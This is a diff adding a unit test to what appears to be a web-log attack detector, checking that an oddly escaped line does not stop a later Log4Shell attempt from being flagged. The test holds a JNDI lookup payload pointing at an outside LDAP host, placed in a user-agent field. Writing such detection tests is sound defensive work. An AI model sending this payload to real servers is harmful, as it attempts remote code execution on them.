@@ -111,6 +111,19 @@ def test_lines_of_several_formats_are_each_read_as_what_they_are() -> None:
     assert found[1].log.path == "/a"
 
 
+def test_an_odd_line_does_not_hide_the_user_agents_of_those_after_it() -> None:
+    """Its agent ends in a backslash: it is no Combined line, but one of Common with something behind."""
+    odd = b'192.0.2.7 - - [02/Mar/2026:09:10:00 +0000] "GET /shop HTTP/1.1" 200 12 "-" "#;\\"'
+    hostile = combined("/", "${jndi:ldap://198.51.100.1/a}")
+    for before in ([combined("/"), odd], [odd]):
+        judge = judge_of()
+        for line in before:
+            one(judge, line)
+        found = one(judge, hostile)
+        assert "log4shell" in found.types
+        assert judge.judge([hostile] * (FEW + 1), [None] * (FEW + 1)) == [found] * (FEW + 1)
+
+
 def test_rubbish_costs_a_bounded_number_of_looks(monkeypatch: pytest.MonkeyPatch) -> None:
     judge, looks = judge_of(), 0
     whole = line_reader.LineReader._look
